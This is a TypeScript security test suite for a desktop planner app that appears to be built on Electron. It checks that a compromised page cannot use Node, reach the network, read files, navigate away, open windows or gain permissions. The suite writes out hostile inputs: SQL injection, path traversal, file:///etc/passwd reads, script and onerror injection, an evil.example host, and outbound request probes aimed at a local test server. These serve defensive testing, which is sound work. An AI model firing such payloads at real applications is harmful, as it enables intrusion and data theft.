import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { App } from './app.ts';
import { expect, test } from './desktop-test.ts';

/** A server outside the app that counts its requests. */
const createStranger = async () => {
  const reached: string[] = [];
  const server: Server = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('<h1>hello</h1>');
  });
  server.on('upgrade', (request, socket) => {
    reached.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { host, reached, close: () => server.close() };
};

/** Evaluates an expression in the page; returns its value, or the text of the error. */
const attempt = (app: App, expression: string) =>
  app.evaluate(`Promise.resolve().then(() => ${expression}).catch((error) => 'refused: ' + error)`);

test.describe('A compromised page', () => {
  let stranger: Awaited<ReturnType<typeof createStranger>>;
  test.beforeEach(async () => {
    stranger = await createStranger();
  });
  test.afterEach(() => stranger.close());

  test('has no Node, and a bridge with only two functions', async ({ start }) => {
    const app = await start({ settings: { firstRunDone: true } });
    await app.page();
    expect(
      await attempt(app, '[typeof require, typeof process, typeof module, typeof Buffer, typeof __toMain]'),
    ).toEqual(Array(5).fill('undefined'));
    expect(await attempt(app, 'Object.keys(planner).sort()')).toEqual(['call', 'on']);
    expect(await attempt(app, '(() => { planner.call = 1; window.planner = 2; return typeof planner.call })()')).toBe(
      'function',
    );
    expect(await attempt(app, 'location.origin.startsWith("app:") || isSecureContext')).toBe(true);
    const refusal = (name: string, input: string) => attempt(app, `planner.call(${name}, ${input})`);
    expect(await refusal('"secrets.all"', 'undefined')).toMatchObject({ failure: { code: 'unknown-request' } });
    expect(await refusal('"__proto__"', '{}')).toMatchObject({ failure: { code: 'unknown-request' } });
    expect(await refusal('"assignment.get"', '{ id: "1; drop table assignment" }')).toMatchObject({
      failure: { code: 'bad-request' },
    });
    expect(await refusal('"settings.update"', '{ tunnel: { host: "http://evil.example" } }')).toMatchObject({
      value: { ok: false },
    });
    await app.call('settings.setClientSecret', { secret: 'top-secret' });
    expect(JSON.stringify(await app.call('settings.get'))).not.toContain('top-secret');
  });

  test('can run only its own scripts and has no network access', async ({ start }) => {
    const app = await start({ settings: { firstRunDone: true } });
    await app.page();
    const { host } = stranger;
    await attempt(
      app,
      `(() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.head.append(s) })()`,
    );
    await attempt(
      app,
      `(() => { const s = document.createElement('script'); s.src = 'http://${host}/script'; document.head.append(s) })()`,
    );
    await attempt(
      app,
      `(() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = 2">') })()`,
    );
    // In a task of the page: what a debugger evaluates may use eval.
    const later = `new Promise((done, fail) => setTimeout(() => { try { done(new Function('return 1')()) } catch (e) { fail(e) } }))`;
    expect(await attempt(app, later)).toContain('refused: EvalError');
    expect(await attempt(app, `fetch('http://${host}/fetch').then((r) => r.status)`)).toContain('refused');
    expect(await attempt(app, `navigator.sendBeacon('http://${host}/beacon') && 'sent'`)).not.toBe('arrived');
    await attempt(
      app,
      `new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = 'http://${host}/image' })`,
    );
    await attempt(
      app,
      `new Promise((done) => { const w = new WebSocket('ws://${host}/socket'); w.onclose = w.onerror = done })`,
    );
    await attempt(
      app,
      `(() => { const f = document.createElement('form'); f.action = 'http://${host}/form'; document.body.append(f); f.submit() })()`,
    );
    await attempt(
      app,
      `new Promise((done) => { const f = document.createElement('iframe'); f.onload = done; f.src = 'http://${host}/frame'; document.body.append(f) })`,
    );
    expect(await attempt(app, `new Worker('data:text/javascript,1') && 'started'`)).not.toBe('arrived');
    expect(await attempt(app, 'window.ran')).toBeUndefined();
    expect(stranger.reached).toEqual([]);
  });

  test('cannot read files from the disk', async ({ start }) => {
    const app = await start({ settings: { firstRunDone: true } });
    await app.page();
    for (const path of ['/..%2f..%2fpackage.json', '/%2e%2e/electron/main.js', '/..%5c..%5cpackage.json', '/%00']) {
      expect(await attempt(app, `fetch('${path}').then((r) => r.status)`), path).toBe(404);
    }
    expect(await attempt(app, `fetch('file:///etc/passwd').then((r) => r.status)`)).toContain('refused');
  });

  test('cannot navigate away', async ({ start }) => {
    const app = await start({ settings: { firstRunDone: true, protime: { tenant: 'acme' } } });
    const page = await app.page();
    // Wait until the page is loaded, because a navigation during loading would cancel it.
    await page.locator('#root > *').first().waitFor();
    const { host } = stranger;
    for (const url of [`http://${host}/away`, 'file:///etc/passwd', 'data:text/html,hello', 'javascript:1']) {
      await attempt(app, `void (location.href = ${JSON.stringify(url)})`);
    }
    await attempt(
      app,
      `void document.body.insertAdjacentHTML('beforeend', '<a id="out" href="http://${host}/click">x</a>')`,
    );
    await attempt(app, `void document.getElementById('out').click()`);
    await expect.poll(() => page.context().pages().length).toBe(1);
    expect(await app.windows()).toHaveLength(1);
    expect(await attempt(app, 'Boolean(document.getElementById("root"))')).toBe(true);
    expect(stranger.reached).toEqual([]);
  });

  test('cannot open windows; only pages of its tenant open in the browser', async ({ start, desktop }) => {
    const app = await start({ settings: { firstRunDone: true, protime: { tenant: 'acme' } } });
    const page = await app.page();
    const refused = () => app.stderr().match(/was not opened/g)?.length ?? 0;
    const asks = [
      ['https://acme.myprotime.eu.evil.example/', 0, 1],
      ['https://acme.myprotime.eu/planning', 1, 1],
      [`http://${stranger.host}/window`, 1, 2],
      ['about:blank', 1, 3],
    ] as const;
    for (const [url, ...answered] of asks) {
      await attempt(app, `void setTimeout(() => window.open('${url}'))`);
      await expect.poll(() => [desktop.opened().length, refused()]).toEqual(answered);
      await expect.poll(() => page.context().pages().length).toBe(1);
    }
    expect(desktop.opened()).toEqual(['https://acme.myprotime.eu/planning']);
    expect(await app.windows()).toHaveLength(1);
    // The page still works.
    expect(await attempt(app, 'Object.keys(planner).length')).toBe(2);
    expect(stranger.reached).toEqual([]);
  });

  test('requests from a frame or from another copy of the page are refused', async ({ start }) => {
    const app = await start({ settings: { firstRunDone: true } });
    await app.page();
    const inFrame = `new Promise((done) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      done(typeof frame.contentWindow.planner);
    })`;
    expect(await attempt(app, inFrame)).toBe('undefined');
    // A document created by the page has its origin, but another address: the window does not go there.
    await attempt(app, 'void (window.stays = true)');
    await attempt(
      app,
      `void (location.href = URL.createObjectURL(new Blob(['<h1>copy</h1>'], { type: 'text/html' })))`,
    );
    // A navigation that is allowed has ended before a request sent after it is answered.
    for (let times = 0; times < 20; times += 1) await app.call('settings.get');
    expect(await attempt(app, 'window.stays === true && Boolean(document.getElementById("root"))')).toBe(true);
  });

  test('has no permission except notifications', async ({ start }) => {
    const app = await start({ settings: { firstRunDone: true } });
    await app.page();
    const stateOf = (name: string) =>
      attempt(app, `navigator.permissions.query({ name: '${name}' }).then((p) => p.state)`);
    for (const name of ['geolocation', 'camera', 'microphone', 'clipboard-read', 'midi']) {
      expect([name, await stateOf(name)]).toEqual([name, 'denied']);
    }
    expect(await attempt(app, 'Notification.permission')).toBe('granted');
  });
});
